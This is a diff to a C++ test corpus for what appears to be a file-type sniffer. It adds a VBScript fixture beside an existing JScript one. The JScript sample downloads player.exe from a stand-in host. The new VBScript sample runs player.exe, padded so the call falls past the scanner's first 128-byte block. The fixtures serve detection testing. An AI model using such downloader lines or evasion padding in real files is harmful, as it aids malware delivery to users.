@@ -269,6 +269,11 @@ const std::string kUrlFile =
 const std::string kJScript =
     "var shell = new ActiveXObject(\"WScript.Shell\");\r\nvar http = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n"
     "http.open(\"GET\", \"http://codec.example.invalid/player.exe\", false);\r\nhttp.send();\r\n";
+// The call 134 bytes in: past the sniffer's first block of 128, which holds
+// letters a call starts with, in a shorter last one. No blank before it, so
+// that no cut of it is text.
+const std::string kVbScript = "'" + std::string(64, '-') + "wag" + std::string(64, '-') +
+                              "\r\nCREATEOBJECT(\"WScript.Shell\").Run \"player.exe\"\r\n";
 
 }  // namespace
 
@@ -365,6 +370,7 @@ std::vector<CleanFile> Corpus() {
         {"asx playlist", kAsx, kAsx.size(), F::Playlist, {"stream.asx", "stream.wvx"}, {"stream.wmv", "stream.mp3"}, false},
         Built("internet shortcut", kUrlFile, F::InternetShortcut, {"Film site.url"}),
         Built("jscript", kJScript, F::WindowsScript, {"setup.js"}),
+        Built("vbscript", kVbScript, F::WindowsScript, {"setup.vbs"}),
     };
 }
 
